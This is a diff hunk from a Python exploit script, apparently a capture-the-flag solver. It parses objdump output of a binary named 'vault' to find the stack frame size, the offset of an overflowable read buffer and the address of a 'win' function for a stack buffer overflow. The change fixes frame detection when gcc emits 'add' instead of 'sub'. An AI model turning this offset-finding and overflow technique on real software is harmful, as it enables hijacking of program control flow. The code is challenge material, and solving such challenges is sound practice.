@@ -83,7 +83,10 @@ import re, socket, struct, subprocess, sys
 PORT = int(sys.argv[1])
 asm = subprocess.run(["objdump", "-d", "--no-show-raw-insn", "vault"], capture_output=True, text=True).stdout
 body = asm.split("<$vuln>:", 1)[1].split("\\n\\n", 1)[0]
-frame = int(re.search(r"sub\\s+\\$$0x([0-9a-f]+),%rsp", body).group(1), 16)
+# gcc writes a 128-byte frame as `add $$-0x80,%rsp` (a shorter immediate) and larger ones as `sub`
+grow = re.search(r"sub\\s+\\$$0x([0-9a-f]+),%rsp", body)
+shrink = re.search(r"add\\s+\\$$0x([0-9a-f]+),%rsp", body)
+frame = int(grow.group(1), 16) if grow else (1 << 64) - int(shrink.group(1), 16)
 # the buffer of the unbounded read(0, buf, 512) is the operand of the lea right before `mov $$0x200,%edx`
 buffer = int(re.findall(r"lea\\s+-0x([0-9a-f]+)\\(%rbp\\),%rax\\s*\\n[^\\n]*mov\\s+\\$$0x200,%edx", body)[0], 16)
 win = int(re.search(r"^([0-9a-f]+) <$win>:", asm, re.M).group(1), 16)
